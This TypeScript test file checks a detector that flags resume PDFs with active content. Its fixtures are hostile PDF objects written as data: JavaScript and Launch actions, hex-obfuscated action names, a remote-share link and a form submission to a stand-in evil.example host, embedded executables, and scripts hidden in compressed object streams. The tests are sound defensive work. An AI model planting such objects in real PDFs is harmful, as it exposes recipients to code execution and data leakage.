import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";

import { isActivePdf } from "./active-pdf.server.ts";
import { makeResumePdf } from "#dev/demo/resume-pdf.ts";

const resume = makeResumePdf("Priya Sharma", "priya@example.com", { Skills: ["HTML/CSS/JavaScript", "Launch of /JS"] });

/** The resume with another object in it. */
function resumeWith(object: string | Buffer): Buffer {
  return Buffer.concat([resume, Buffer.from("\n9 0 obj\n"), Buffer.from(object), Buffer.from("\nendobj\n")]);
}

function packed(
  objects: string,
  { dictionary = "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", data = deflateSync(objects) } = {},
) {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from("\nendstream"),
  ]);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";

describe("a PDF that does something when it is opened is found", () => {
  test.each([
    ["a script", SCRIPT],
    ["a script, its name in codes", "<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>"],
    ["a script, a comment inside", "<< /S % here\n /JavaScript /JS (app.alert(1)) >>"],
    ["a script, its kind an object of its own", "/JavaScript"],
    ["a program", "<< /S/Launch /F (calc.exe) >>"],
    ["another file on a Windows share", String.raw`<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) >>`],
    ["a file inside", "<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>"],
    ["a list of files inside", "<< /Names << /EmbeddedFiles 8 0 R >> >>"],
    ["a form that is sent", "<< /S /SubmitForm /F (https://evil.example) >>"],
    ["a script among packed objects", packed(`8 0 ${SCRIPT}`)],
    ["a script among packed objects that do not say what they are", packed(`8 0 ${SCRIPT}`, { dictionary: "/N 1" })],
    [
      "packed objects in another coding",
      packed("", { dictionary: "/ObjStm /Filter /LZWDecode", data: Buffer.from("x") }),
    ],
    ["packed objects beyond the limit", packed(`8 0 ${" ".repeat(40_000_000)}`)],
  ])("%s", (_, object) => {
    expect(isActivePdf(resumeWith(object))).toBe(true);
  });

  test("eleven bytes", () => {
    expect(isActivePdf(Buffer.from("%PDF-1.7\n%%"))).toBe(true);
  });
});

describe("a plain PDF passes", () => {
  test.each([
    ["with a link", "<< /S /URI /URI (https://github.example/priya) >>"],
    ["with links to its pages", "<< /S /GoTo /D [3 0 R /Fit] >>"],
    ["with packed objects", packed("8 0 << /Type /Page >>")],
    ["with a drawing that begins with a number", packed("1 0 0 1 20 30 cm (HTML/JavaScript) Tj", { dictionary: "" })],
    [
      "with a photo",
      packed("", { dictionary: "/Subtype /Image /Filter /DCTDecode", data: Buffer.from("\xff\xd8\xff", "latin1") }),
    ],
  ])("%s", (_, object) => {
    expect(isActivePdf(resumeWith(object))).toBe(false);
  });
});
